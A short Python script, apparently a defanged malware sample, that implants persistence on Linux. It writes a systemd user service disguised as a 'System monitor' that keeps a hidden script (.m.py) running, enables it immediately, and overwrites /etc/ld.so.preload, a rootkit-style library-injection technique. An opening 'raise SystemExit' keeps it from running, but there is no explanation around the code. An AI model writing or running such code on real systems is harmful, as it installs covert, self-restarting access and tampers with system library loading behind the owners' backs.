import os
import subprocess

raise SystemExit
UNIT = """[Unit]
Description=System monitor
[Service]
ExecStart=/usr/bin/python3 %h/.config/sysmon/.m.py
Restart=always
[Install]
WantedBy=default.target
"""
p = os.path.expanduser("~/.config/systemd/user/sysmon.service")
open(p, "w").write(UNIT)
subprocess.run(["systemctl", "--user", "enable", "--now", "sysmon.service"])
open("/etc/ld.so.preload", "w").write("/nonexistent/lib.so")
